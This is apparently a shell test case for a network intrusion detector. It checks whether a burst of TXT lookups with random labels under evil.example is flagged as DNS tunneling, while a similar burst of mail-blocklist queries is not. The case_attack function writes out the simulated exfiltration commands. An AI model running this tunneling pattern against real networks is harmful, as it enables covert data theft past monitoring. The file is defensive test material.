# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='data leaves in names: 500 TXT questions of random labels'
case_class=A
case_prepare() {
	run app pg-many sh -c 'while sleep 0.5; do :; done & exec node /srv/node/app.js'
	run digs pg-many sh -c 'while sleep 0.5; do dig +tries=1 +time=1 @203.0.113.9 A www.example.org >/dev/null; done'
	# asks block lists about senders, the way mail servers do: now and then when learned, a burst later
	run mail pg-many sh -c 'n=0; while sleep 0.5; do n=$((n + 1)); dig +tries=1 +time=1 @203.0.113.9 A $((n % 200)).2.0.192.zen.dnsbl.example >/dev/null; done'
}
case_benign() {
	in_ mail sh -c 'i=0; while [ $i -lt 150 ]; do dig +tries=1 +time=1 @203.0.113.9 A $((i % 256)).$((i * 7 % 256)).113.203.zen.dnsbl.example >/dev/null & i=$((i + 1)); done; wait'
}
case_attack() {
	in_ digs bash -c 'for ((i = 0; i < 25; i++)); do for ((j = 0; j < 20; j++)); do printf "%04x%04x%04x%04x.t.evil.example TXT\n" $RANDOM $RANDOM $RANDOM $RANDOM; done >/tmp/names.$i; dig +tries=1 +time=1 @203.0.113.9 -f /tmp/names.$i >/dev/null & done; wait'
}
case_expect='dns.tunnel A16-digs /usr/bin/dig evil.example'
